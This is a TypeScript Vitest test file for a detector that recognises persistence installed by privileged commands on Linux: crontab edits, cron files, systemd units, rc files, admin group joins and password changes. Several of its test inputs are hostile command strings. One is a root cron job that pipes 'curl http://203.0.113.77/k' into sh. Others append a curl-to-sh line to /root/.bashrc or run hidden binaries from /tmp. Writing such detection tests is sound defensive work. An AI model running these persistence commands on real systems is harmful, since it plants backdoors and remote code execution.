/** What a privileged command installs, and for whom: crontab -u, crontab -e through sudo, cron files, units, rc files, groups, passwords. */
import { describe, expect, it } from 'vitest';
import { persistenceInCommand, persistenceInCrontabEvent } from '../../src/correlate/persistence.js';

const p = (cmd: string, as: string | null = 'root') => persistenceInCommand(cmd, as).map((x) => `${x.kind} ${x.value}${x.owner ? ` (${x.owner})` : ''}${x.minute !== null ? ` @${x.minute}` : ''}${x.hour !== null ? `:${x.hour}` : ''}`);

describe('persistence in a command line', () => {
  it("crontab -u USER edits USER's table; crontab -e through sudo edits the sudo target's (root's unless -u is given)", () => {
    expect(p('/usr/bin/crontab -u www-data -e')).toEqual(['cron crontab of www-data (www-data)']);
    expect(p('/usr/bin/crontab -e')).toEqual(['cron crontab of root (root)']);
    expect(p('/usr/bin/crontab -e', 'postgres')).toEqual(['cron crontab of postgres (postgres)']);
    expect(p("/bin/sh -c echo '17 3 * * * /tmp/.x' | crontab -u www-data -")).toEqual(['cron crontab of www-data (www-data) @17:3']);
    expect(p('/usr/bin/crontab /tmp/jobs.txt', 'deploy')).toEqual(['cron crontab of deploy (deploy)']);
  });

  it('listing or removing a crontab, or reading a cron file, installs nothing', () => {
    expect(p('/usr/bin/crontab -l')).toEqual([]);
    expect(p('/usr/bin/crontab -u bob -l')).toEqual([]);
    expect(p('/usr/bin/crontab -u bob -r')).toEqual([]);
    expect(p('/bin/cat /etc/cron.d/sysupdate')).toEqual([]);
    expect(p('/bin/ls -la /etc/cron.d')).toEqual([]);
    expect(p('/bin/rm /etc/cron.d/sysupdate')).toEqual([]);
  });

  it('cron files written carry their schedule and user', () => {
    expect(p("/bin/sh -c echo '17 * * * * root curl -fsS http://203.0.113.77/k | sh' > /etc/cron.d/sysupdate")).toEqual(['cron /etc/cron.d/sysupdate (root) @17']);
    expect(p("/bin/sh -c echo '*/5 * * * * /tmp/x' >> /var/spool/cron/crontabs/www-data")).toEqual(['cron /var/spool/cron/crontabs/www-data (www-data)']);
  });

  it('systemd units and rc files written or enabled, admin groups joined, passwords set', () => {
    expect(p('/usr/bin/tee /etc/systemd/system/updater.service')).toEqual(['systemd_unit /etc/systemd/system/updater.service']);
    expect(p('/bin/systemctl enable --now updater.service')).toEqual(['systemd_unit updater.service']);
    expect(p("/bin/sh -c echo 'curl x|sh' >> /root/.bashrc")).toEqual(['rc_file /root/.bashrc (root)']);
    expect(p('/usr/sbin/usermod -aG sudo,adm backup')).toEqual(['admin_group backup in sudo (backup)']);
    expect(p('/usr/sbin/usermod -L deploy')).toEqual([]);
    expect(p('/usr/sbin/usermod -aG www-data dev')).toEqual([]);
    expect(p('/usr/bin/passwd sysupdate')).toEqual(['password_set sysupdate (sysupdate)']);
    expect(p('/usr/bin/passwd')).toEqual(['password_set root (root)']);
    expect(p('/bin/cat /etc/passwd')).toEqual([]);
    expect(p("/bin/sh -c echo 'svc:Passw0rd' | chpasswd")).toEqual(['password_set svc (svc)']);
  });

  it("crontab's own log line names the table by its target", () => {
    expect(persistenceInCrontabEvent('crontab_replace', 'crontab:www-data')).toMatchObject({ kind: 'cron', value: 'crontab of www-data', owner: 'www-data' });
    expect(persistenceInCrontabEvent('crontab_list', 'crontab:root')).toBeNull();
  });
});
